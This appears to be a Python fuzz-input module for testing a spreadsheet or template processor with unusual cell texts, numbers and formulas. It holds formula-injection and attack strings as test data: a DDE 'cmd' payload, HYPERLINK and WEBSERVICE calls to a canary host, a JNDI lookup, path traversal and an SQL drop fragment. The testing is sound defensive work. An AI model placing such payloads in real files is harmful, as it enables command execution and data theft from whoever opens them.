"""What is put into cells, names and attributes."""

from random import Random

CANARY = "jxls-fuzz-canary"
"""In every formula, link and macro that is put into an input; it may stand in no output."""

TEXTS = (
    *("", " ", "\u3000", "\u200b", "无", "/", "—", "-", "——", "暂无", "N/A", "n/a", "null", "None"),
    *(
        "0",
        "00",
        "0.0",
        "-0",
        "+0",
        "１２３．４５",
        "－１２．５",
        "（12.5）",
        "(12.5)",
        "(-1)",
        "−12.5",
    ),
    *(
        "1,234.5",
        "１，２３４",
        "1,23,4",
        "12,34",
        "1 234",
        "1，234",
        "1'234",
        "1_000",
        "1\u00a0234",
    ),
    *(
        "3359.62万",
        "120,000元",
        "1亿",
        "￥50",
        "$50",
        "50美元",
        "50元整",
        "壹万",
        "一百二十",
        "十二万",
    ),
    *("98.42%", "98.42", "0.9842", "0.9842%", "1%", "1", "100", "约98%", "≥95%", "98％", "9.8‰"),
    *("1e3", "1E+3", "1e-3", "1e400", "1e-400", "9e99", "1e999999999", "Infinity", "-inf", "NaN"),
    *("135711900.19", "99999999.99", "1234567890.12", "999999999999999"),
    *("0x10", "1/2", "½", "①", "²", "٣", "१२", "12.345678901", "13571.190000000001", "." * 50),
    *("9" * 15, "9" * 16, "9" * 400, "0." + "0" * 400 + "1", "1" + "," * 20, "-" * 40, "(" * 60),
    *(
        "2024年6月12日",
        "2024.6.12",
        "2024-06-12",
        "20240612",
        "24.6.12",
        "2024-02-30",
        "0000-00-00",
    ),
    *(
        "2024/6/12 8:30",
        "45455",
        "99999",
        "12/06/2024",
        "2024-06",
        "9999-12-31",
        "１９００年１月１日",
    ),
    *("#DIV/0!", "#REF!", "#N/A", "#NAME?", "#VALUE!", "#NULL!", "#NUM!", "Err:502", "#SPILL!"),
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "\t=1+1", "\r\n=1", "'=1"),
    '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
    *(
        "字段",
        "填报值",
        "模板",
        "单位",
        "预算_总额",
        "说明_H03",
        "上年_农村低保_标准",
        "核对码_说明_H03",
    ),
    *(
        "TRUE",
        "是",
        "否",
        "√",
        "a\nb",
        "a\r\nb",
        "a\rb",
        "\x0b",
        "\x7f",
        "\x85",
        "\u2028",
        "\ufeff1",
    ),
    *("_x0000_", "_x000D_", "_x001B_[2J", "_x005F_x0000_", "_xD800_", "\u202e12", "é", "e\u0301"),
    *(
        "𠮷𡃁㐂",
        "😀👩‍👩‍👧",
        "<b>&amp;</b>",
        "]]>",
        "<![CDATA[x]]>",
        "&lt;",
        "%s%n{0}",
        "${jndi:ldap://x}",
    ),
    *(
        "[red]x[/red]",
        ":smile:",
        "../../etc/passwd",
        "\x1b[31m",
        "'; DROP TABLE",
        "\\u0000",
        "\\x00",
    ),
    "封签 " + "a" * 64,
    *("长" * 40_000, "a" * 32_767, "a" * 32_768, "😀" * 20_000, "\n" * 5_000, "1\n" * 3_000),
)

NUMBERS = (
    *(
        "0",
        "-0",
        "0.0",
        "1",
        "-1",
        "13571.19",
        "13571.190000000001",
        "0.1",
        "1E3",
        "1e-7",
        "1E+300",
    ),
    *("1E400", "-1E400", "1E-400", "NaN", "INF", "-Infinity", "1e", "--1", "", " ", " 5 ", "５"),
    *("9007199254740993", "999999999999999", "1e15", "1e16", "1e308", "4.9e-324", "0x1F", "1,5"),
    *(
        "45455",
        "45455.5",
        "0.9842",
        "98.42",
        "60",
        "2958465",
        "2958466",
        "-1",
        "1e9",
        "2023",
        "20.5",
    ),
)

_EVIL = (
    f'HYPERLINK("http://{CANARY}.invalid/","x")',
    f"cmd|'/c {CANARY}'!A1",
    f'WEBSERVICE("http://{CANARY}.invalid")',
    f"[{CANARY}.xlsx]Sheet1!A1",
    f"'file:///{CANARY}/[x.xls]S'!$A$1",
    f'DDE("{CANARY}","x","y")',
    f'CALL("{CANARY}","x","J",1)',
    f'INDIRECT("{CANARY}")',
    f'"{CANARY}"&NOW()',
    f"LET({CANARY.replace('-', '_')},1)&" + "(" * 200,
)


def text(random: Random) -> str:
    """A text of the list, two of them, a piece of one, or characters from anywhere."""
    kind = random.random()
    if kind < 0.6:
        return random.choice(TEXTS)
    if kind < 0.75:
        return random.choice(TEXTS)[:50] + random.choice(TEXTS)[:50]
    if kind < 0.9:
        alphabet = "0123456789.,-+()%元万亿 　年月日/￥eE￥—－０９，．＋"
        return "".join(random.choices(alphabet, k=random.randrange(1, 14)))
    codes = [random.choice([128, 0x3000, 0xFFFF, 0x10FFFF]) for _ in range(random.randrange(1, 30))]
    return "".join(chr(random.randrange(limit + 1)) for limit in codes)


def formula(random: Random) -> str:
    return random.choice(_EVIL)


def escaped(value: str) -> bytes:
    """As the content of an element or an attribute; what XML cannot hold goes in as it is."""
    for sign, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;")):
        value = value.replace(sign, entity)
    return value.encode("utf-8", "surrogatepass")
